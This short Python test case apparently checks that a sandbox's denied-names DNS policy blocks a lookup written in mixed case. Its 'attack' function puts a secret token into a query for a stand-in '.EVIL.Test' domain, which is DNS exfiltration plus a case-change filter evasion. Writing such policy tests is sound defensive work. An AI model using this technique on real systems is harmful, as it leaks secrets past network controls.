"""A denied name in other letters
Asks for it in mixed case.
policy: denied-names
audit: explicitlyDeniedDNS
proof: arrival
"""
import socket


def attack(at):
    return bool(socket.getaddrinfo(at.token.decode() + '.EVIL.Test', 80))
